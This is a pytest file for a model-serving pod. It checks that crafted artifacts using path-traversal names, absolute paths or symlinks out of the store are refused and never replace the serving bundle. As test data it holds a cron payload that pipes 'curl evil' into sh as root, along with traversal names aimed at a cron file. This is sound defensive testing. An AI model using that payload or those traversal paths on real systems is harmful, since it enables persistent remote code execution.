"""A crafted artifact (names leaving the artifact or the cache, symlinks out of the store) is
refused by the pod with the entry named, and never replaces the bundle that serves."""

from __future__ import annotations

import dataclasses
import hashlib
from pathlib import Path

import pytest
from tests.unit.ranker.builders import Published, onnx_model
from tests.unit.ranker.test_ranker_convergence import Pod

from rankswap.artifacts import FileEntry, parse_uri, read_manifest
from rankswap.artifacts.manifest import content_version

pytestmark = pytest.mark.timeout(60)
PAYLOAD = b"* * * * * root curl evil | sh\n"


@pytest.fixture
def pod(tmp_path: Path, file_root: str, cache_dir: Path) -> Pod:
    return Pod(tmp_path / "run", [file_root], cache_dir)


def crafted_copy(published: Published, label: str, files: dict[str, bytes]) -> str:
    """The published model re-labelled ``label`` whose manifest lists ``files`` instead."""
    good = read_manifest(published.model_uri)
    folder = Path(parse_uri(published.model_uri).path).parent / label
    folder.mkdir()
    entries = {
        name: FileEntry(len(data), hashlib.sha256(data).hexdigest()) for name, data in files.items()
    }
    version = content_version(good.kind, good.name, good.as_of, entries)
    crafted = dataclasses.replace(good, files=entries, version=version)
    (folder / "manifest.json").write_bytes(crafted.to_json())
    return folder.as_uri()


@pytest.mark.parametrize("kind", ["absolute", "dotdot"])
def test_a_crafted_model_never_replaces_the_serving_bundle(
    pod: Pod, published: Published, tmp_path: Path, kind: str
) -> None:
    pod.push(published.model_uri, published.features_uri)
    target = tmp_path / "etc-cron.d-rankswap"
    name = str(target) if kind == "absolute" else "../../../../etc-cron.d-rankswap"
    bad = crafted_copy(published, "2026-11-21", {name: PAYLOAD, "model.onnx": b"x"})
    pod.push(bad, published.features_uri)
    assert pod.active() == [published.bundle_id] * 2
    state = pod.coordinator.state()
    assert state["desired"]["status"] == "failed"
    assert state["active"]["bundle_id"] == published.bundle_id
    err = state["last_error"]
    assert (err["type"], err["code"], err["file"]) == ("UnsafePath", "artifact_unusable", name)
    assert repr(name) in err["message"]
    assert not target.exists() and not list(tmp_path.rglob("etc-cron.d-rankswap"))


def test_a_model_file_symlinked_out_of_the_store_is_not_served(
    pod: Pod, published: Published, tmp_path: Path
) -> None:
    pod.push(published.model_uri, published.features_uri)
    outside = tmp_path / "not-in-the-store.onnx"  # a valid model, just not in the store
    outside.write_bytes(onnx_model(weight=3.0))
    bad = crafted_copy(published, "2026-11-22", {"model.onnx": outside.read_bytes()})
    (Path(parse_uri(bad).path) / "model.onnx").symlink_to(outside)
    pod.push(bad, published.features_uri)
    assert pod.active() == [published.bundle_id] * 2
    err = pod.coordinator.state()["last_error"]
    assert err["type"] == "UnsafePath" and err["file"] == "model.onnx"
    assert "outside" in err["message"]


def test_a_symlink_out_of_a_narrow_allowed_root_is_not_allowed(
    tmp_path: Path, file_root: str, cache_dir: Path, published: Published
) -> None:
    """Allowed: <store>/models/ranker only; <store>/models/ranker/2026-11-23 links elsewhere."""
    from rankswap_ranker.errors import URINotAllowed

    models = Path(parse_uri(published.model_uri).path).parent
    features = Path(parse_uri(published.features_uri).path).parent
    narrow = Pod(tmp_path / "run2", [models.as_uri(), features.as_uri()], cache_dir)
    narrow.coordinator.request(published.model_uri, published.features_uri, "admin")  # allowed
    elsewhere = models.parent / "other"
    elsewhere.mkdir()
    (models / "2026-11-23").symlink_to(elsewhere)
    with pytest.raises(URINotAllowed, match=r"model_uri: .* outside the allowed roots"):
        narrow.coordinator.request(
            (models / "2026-11-23").as_uri(), published.features_uri, "admin"
        )
